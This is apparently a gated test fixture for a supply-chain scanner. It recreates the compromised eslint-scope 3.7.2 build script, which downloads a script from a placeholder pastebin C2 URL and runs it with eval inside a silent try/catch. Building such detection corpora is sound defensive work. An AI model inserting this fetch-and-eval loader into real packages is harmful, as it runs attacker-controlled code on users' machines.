// lib/build.js of 3.7.2 (ESLint postmortem): download a script and eval it. The pastebin URL is
// the loopback C2 here; what it serves is test/live/c2-files/eslint-scope-stage2.js.
if (process.env.SUPPLYWATCH_LIVE_CORPUS !== '1') process.exit(0);
try {
  var r = require('http');
  r.get('__C2@pastebin.com__/raw/XLeVP82h', function (r) {
    var e = '';
    r.on('data', function (c) { e += c; });
    r.on('end', function () { eval(e); });
  });
} catch (e) {}
